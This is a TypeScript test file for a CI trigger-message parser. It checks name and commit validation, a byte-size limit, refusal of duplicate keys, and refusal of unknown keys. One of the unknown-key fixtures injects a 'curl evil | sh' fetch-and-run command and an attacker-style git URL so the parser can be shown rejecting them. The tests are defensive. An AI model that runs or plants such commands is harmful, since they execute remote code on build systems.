import { describe, expect, it } from 'vitest';
import { InvalidInputError } from '../../src/core/errors.js';
import {
  formatTriggerMessage,
  MAX_MESSAGE_BYTES,
  parseTriggerMessage,
  validateTriggerMessage,
} from '../../src/core/trigger-message.js';

const COMMIT = 'c0ffee'.repeat(7).slice(0, 40);

/** The error a parse throws, so a test can check its class, field and whole message. */
function refusal(parse: () => unknown): InvalidInputError {
  try {
    parse();
  } catch (error) {
    if (error instanceof InvalidInputError) return error;
    throw error;
  }
  throw new Error('expected the message to be refused');
}

describe('parseTriggerMessage', () => {
  it('accepts project and branch, and adds no commit key when none was sent', () => {
    // GIVEN a message without a commit
    // WHEN parsed
    const message = parseTriggerMessage('{"project":"demo","branch":"refs/heads/main"}');
    // THEN the names come back checked, and there is no commit key at all (not even undefined)
    expect(message).toStrictEqual({ project: 'demo', branch: 'main' });
    expect(Object.keys(message)).toEqual(['project', 'branch']);
  });

  it('accepts a commit, and checks it', () => {
    // GIVEN messages with a well-formed and a malformed commit
    // WHEN / THEN the first is kept, the second refused with the commit rule
    expect(parseTriggerMessage(`{"project":"demo","branch":"main","commit":"${COMMIT}"}`)).toStrictEqual({
      project: 'demo',
      branch: 'main',
      commit: COMMIT,
    });
    const error = refusal(() => parseTriggerMessage('{"project":"demo","branch":"main","commit":"abc"}'));
    expect(error.field).toBe('commit');
    expect(error.message).toBe('invalid commit "abc": expected 40 or 64 lowercase hex characters');
  });

  it('checks the project and branch names', () => {
    // GIVEN names that break the naming rules
    // WHEN / THEN each is refused by its own rule
    expect(refusal(() => parseTriggerMessage('{"project":"Demo!","branch":"main"}')).field).toBe('project');
    expect(refusal(() => parseTriggerMessage('{"project":"demo","branch":"-x"}')).field).toBe('branch');
  });

  it(`accepts a message of exactly ${MAX_MESSAGE_BYTES} bytes and refuses one byte more, counted in UTF-8`, () => {
    // GIVEN a valid message padded with whitespace to the limit, and to one byte past it
    const body = '{"project":"demo","branch":"main"}';
    const atLimit = body + ' '.repeat(MAX_MESSAGE_BYTES - body.length);
    // WHEN / THEN the first parses, the second is refused before it is even parsed
    expect(parseTriggerMessage(atLimit)).toStrictEqual({ project: 'demo', branch: 'main' });
    const over = refusal(() => parseTriggerMessage(`${atLimit} `));
    expect(over.field).toBe('message');
    expect(over.message).toBe('message is larger than 4096 bytes');
    // AND bytes are counted, not characters: 2,049 two-byte characters are over the limit
    const wide = 'é'.repeat(2049);
    expect(wide.length).toBeLessThan(MAX_MESSAGE_BYTES);
    expect(refusal(() => parseTriggerMessage(wide)).message).toBe('message is larger than 4096 bytes');
  });

  it('refuses text that is not JSON, without repeating it', () => {
    // GIVEN text that is not JSON and holds something that looks like a secret
    // WHEN parsed
    const error = refusal(() => parseTriggerMessage('project=demo token=ghp_secret'));
    // THEN one line says so, and the text is not in it
    expect(error.field).toBe('message');
    expect(error.message).toBe('message is not valid JSON');
  });

  it.each(['[]', '["demo","main"]', 'null', '"demo"', '42', 'true'])('refuses %s: not an object', (text) => {
    // GIVEN JSON that is not an object / WHEN parsed / THEN the expected shape is named
    const error = refusal(() => parseTriggerMessage(text));
    expect(error.field).toBe('message');
    expect(error.message).toBe('message must be a JSON object {"project", "branch", "commit"?}');
  });

  it.each([
    [
      '{"project":"demo","branch":"main","gitUrl":"https://evil.example/x.git"}',
      'message: unknown key gitUrl',
    ],
    [
      '{"project":"demo","branch":"main","gitUrl":"x","command":"curl evil | sh"}',
      'message: unknown keys gitUrl, command',
    ],
    ['{"project":"demo"}', 'message: branch: Invalid input: expected string, received undefined'],
    ['{"project":1,"branch":"main"}', 'message: project: Invalid input: expected string, received number'],
    [
      '{"project":"demo","branch":"main","commit":null}',
      'message: commit: Invalid input: expected string, received null',
    ],
  ])('refuses %s by name: CI can never steer the build', (text, expected) => {
    // GIVEN a message with a key CI may not send, or a missing or mistyped one
    // WHEN parsed / THEN it is refused, naming the key
    const error = refusal(() => parseTriggerMessage(text));
    expect(error.field).toBe('message');
    expect(error.message).toBe(expected);
  });
});

describe('validateTriggerMessage', () => {
  it('checks an object the CLI built, and drops an undefined commit', () => {
    // GIVEN an object with commit: undefined (the CLI's --no-commit)
    // WHEN / THEN it is accepted without a commit key
    expect(validateTriggerMessage({ project: 'demo', branch: 'main', commit: undefined })).toStrictEqual({
      project: 'demo',
      branch: 'main',
    });
    expect(refusal(() => validateTriggerMessage(['demo', 'main'])).message).toMatch(/must be a JSON object/);
  });
});

describe('formatTriggerMessage', () => {
  it('serializes, so a quote in a value cannot add a key, and parses back to the same message', () => {
    // GIVEN a message whose branch holds a quote and a brace
    const message = { project: 'demo', branch: 'feat/"x"}', commit: COMMIT };
    // WHEN formatted
    const text = formatTriggerMessage(message);
    // THEN it is the JSON of exactly these keys
    expect(text).toBe(JSON.stringify(message));
    expect(JSON.parse(text)).toStrictEqual(message);
  });
});

describe('parseTriggerMessage: duplicate keys', () => {
  it('refuses a key given twice, naming it, so two readers cannot see two messages', () => {
    // GIVEN a message whose branch is given twice (one JSON reader keeps the first, another the last)
    // WHEN parsed / THEN it is refused by name
    const error = refusal(() => parseTriggerMessage('{"project":"demo","branch":"main","branch":"evil"}'));
    expect(error.field).toBe('message');
    expect(error.message).toBe('message has the key "branch" more than once');
  });
});
